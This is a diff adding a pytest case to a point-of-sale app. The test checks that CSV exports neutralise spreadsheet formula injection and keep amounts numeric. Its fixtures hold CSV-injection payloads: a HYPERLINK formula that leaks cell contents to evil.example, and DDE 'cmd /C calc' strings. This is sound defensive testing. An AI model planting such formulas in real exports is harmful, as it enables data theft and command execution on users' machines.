@@ -10,6 +10,8 @@ from datetime import date
 from decimal import Decimal
 from typing import Any
 
+from sqlalchemy import text
+
 from pos_app.app import Services
 from pos_app.domain.cart import Cart, Discount
 from pos_app.domain.returns import refund_for
@@ -196,3 +198,56 @@ def test_whole_kilograms_returned_still_print_as_weights(
     )
     _, rows = export_csv(services, ctx.business_date, ctx.business_date)
     assert [(r["kind"], r["quantity"]) for r in rows] == [("sale", "2.000"), ("return", "-2.000")]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers(
+    services: Services, staff: Staff
+) -> None:
+    """A name beginning with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to a
+    spreadsheet (issue 15, item 13): written with a ``'`` before it, as OWASP recommends.
+    Amounts and quantities are numbers: a refund's negative amounts are not quoted."""
+    names = {
+        "MILK1L": '=HYPERLINK("http://evil.example/?"&A1,"Süt")',
+        "TEA1KG": "+90 212 555 00 00",
+        "SOAP": "-5 % indirim",
+        "BREAD": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    with services.engine.begin() as conn:
+        for sku, name in names.items():
+            conn.execute(
+                text("UPDATE product SET name = :name WHERE sku = :sku"), {"name": name, "sku": sku}
+            )
+        conn.execute(
+            text("UPDATE user SET name = :name WHERE id = :id"),
+            {"name": "=cmd|' /C calc'!A0", "id": staff.cashier.user_id},
+        )
+    ctx = open_shift(services, staff)
+    sale = sell(services, ctx, *((sku, 1) for sku in names))
+    # Received by sync from an older till: a tab or CR could lead a name (a formula after it).
+    with services.engine.begin() as conn:
+        for line_no, name in ((3, "\t=1+1"), (4, "\r=1+1")):
+            conn.execute(
+                text("UPDATE sale_line SET name = :name WHERE line_no = :n"),
+                {"name": name, "n": line_no},
+            )
+    found = services.sales.find_sale(sale.receipt_no)
+    services.sales.complete_return(
+        ReturnRequest([refund_for(found.lines[0], Decimal(1))], original=found), ctx
+    )
+    out = io.StringIO()
+    export_sales(services.engine, ctx.business_date, ctx.business_date, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [row["name"] for row in rows] == [
+        "'" + names["MILK1L"],
+        "'" + names["TEA1KG"],
+        "'\t=1+1",
+        "'\r=1+1",
+        "'" + names["MILK1L"],  # the return's line
+    ]
+    assert {row["cashier"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    back = rows[-1]
+    assert (back["quantity"], back["line_total"], back["sale_total"]) == ("-1", "-45.50", "-45.50")
+    assert back["sale_tax"].startswith("-")  # numbers as they are, no quote
+    assert back["tenders"] == "cash:-45.50"  # text, but it begins with the tender's kind
+    for row in rows:
+        assert all(MONEY.match(row[column]) for column in MONEY_COLUMNS), row
